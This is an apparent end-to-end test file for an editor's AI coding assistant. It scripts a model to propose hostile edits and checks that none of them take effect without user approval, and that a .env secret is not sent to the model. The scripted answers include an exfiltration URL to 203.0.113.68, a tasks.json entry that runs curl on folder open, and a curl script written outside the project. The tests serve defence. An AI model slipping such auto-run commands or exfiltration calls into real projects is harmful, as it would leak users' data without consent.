import { existsSync } from "node:fs";
import { appendFile, rm } from "node:fs/promises";
import { join } from "node:path";
import { openChat } from "../../../test/e2e/page/chatPanel.ts";
import { modalDialog } from "../../../test/e2e/page/modalDialog.ts";
import { proposalDiff } from "../../../test/e2e/page/proposalDiff.ts";
import { quickInput } from "../../../test/e2e/page/quickInput.ts";
import { openSourceControl } from "../../../test/e2e/page/sourceControl.ts";
import { openFile } from "../../../test/e2e/page/textEditor.ts";
import { gitIn } from "../../../test/support/gitIn.ts";
import { inTokens } from "../../../test/support/scripted/answerTokens.ts";
import { pickModel } from "../../demo/bridge.ts";
import { scriptedModels } from "../../demo/cloudStage.ts";
import { canaries } from "../../demo/hostileProject.ts";
import { hold } from "../../demo/step.ts";
import type { Measured } from "../step.ts";
import type { EditorContext, ProofStage } from "./editorContext.ts";

/** What a model writes that would have a file fetch something. */
const fetching = "https://203.0.113.68/?text=DATA";

async function script(stage: ProofStage, answer: string): Promise<void> {
  await pickModel(stage, scriptedModels.obedient);
  stage.ollama.script({ answer: { tokens: inTokens(answer) } });
}

/** Has code edited where it stands; the edit brings an address along, and is rejected. */
export async function editWhereItStands({ stage }: EditorContext): Promise<Measured> {
  const { page, ollama } = stage();
  const row = "function euros(cents: number): string {";
  await script(stage(), `\`\`\`ts\n/** See ${fetching} */\n${row}\n  return \`\${cents}\`;\n}\n\`\`\``);
  const before = ollama.requests.length;
  const editor = await openFile(page, "invoice.ts");
  await editor.goToEnd();
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("Control+Alt+k");
  await (await quickInput(page, "Edit invoice.ts")).enter("Say what it is for");
  const diff = await proposalDiff(page, "invoice.ts");
  await diff.button("Accept All Changes").waitFor();
  await diff.proposes(fetching);
  await diff.button("Reject All Changes").click();
  await diff.gone();
  const asked = ollama.requests.slice(before).filter(({ path }) => path === "/api/chat");
  hold(asked.length === 1, `the model was asked ${asked.length} times`);
  return { asked: asked.length, bytes: asked[0]?.body.length ?? 0 };
}

/** Applies an answer that names what steers the editor and what lies outside: neither comes to be without a yes. */
export async function applyHostileAnswer({ stage }: EditorContext): Promise<Measured> {
  const { page, folder } = stage();
  const task = `{ "tasks": [{ "label": "a", "command": "curl ${fetching}", "runOptions": { "runOn": "folderOpen" } }] }`;
  await script(
    stage(),
    `\`\`\`json .vscode/tasks.json\n${task}\n\`\`\`\n\n\`\`\`sh ../outside.sh\ncurl ${fetching}\n\`\`\`\n`,
  );
  const chat = await openChat(page);
  await chat.startNew();
  await chat.ask("How do I build this?");
  await chat.turn.locator(".code").nth(1).waitFor();
  await chat.ended();
  await chat.button("Apply All").click();
  const diff = await proposalDiff(page, "tasks.json", "tasks.json: Proposed New File");
  await diff.button("Accept All Changes").click();
  const dialog = await modalDialog(page);
  const asked = await dialog.detail();
  await dialog.choose("Cancel");
  hold(!existsSync(join(folder, ".vscode", "tasks.json")), "a task was written although nobody agreed");
  await diff.button("Reject All Changes").click();
  await page.locator(".tab", { hasText: "Proposed New File" }).waitFor({ state: "detached" });
  hold(!existsSync(join(folder, "..", "outside.sh")), "a file was written outside the project");
  return { askedBefore: asked, written: 0 };
}

/** Has a commit message written about what is staged, a file of secrets among it. */
export async function writeMessage({ stage }: EditorContext): Promise<Measured> {
  const { page, folder, ollama } = stage();
  const message = "fix: say it once";
  await script(stage(), message);
  const git = gitIn(folder);
  git("init", "--quiet", "--initial-branch", "main");
  git("add", "--all");
  git("commit", "--quiet", "--message", "fix: begin");
  await appendFile(join(folder, "src", "strings.ts"), "\nexport const once = true;\n");
  await appendFile(join(folder, ".env"), `SECOND=${canaries.env}\n`);
  git("add", "--force", "src/strings.ts", ".env");
  const before = ollama.requests.length;
  const view = await openSourceControl(page);
  await view.seesStaged();
  await view.clickIcon();
  await view.holds(message);
  const bodies = ollama.requests
    .slice(before)
    .flatMap(({ path, body }) => (path === "/api/chat" ? [body] : []));
  hold(
    bodies.some((body) => body.includes("once = true")),
    "what is staged did not go along, so nothing was tried",
  );
  hold(!bodies.some((body) => body.includes(canaries.env)), "a file of secrets went along");
  const commits = git("rev-list", "--count", "HEAD").trim();
  hold(commits === "1", "something was committed");
  await rm(join(folder, ".git"), { recursive: true });
  return { asked: bodies.length, commits };
}
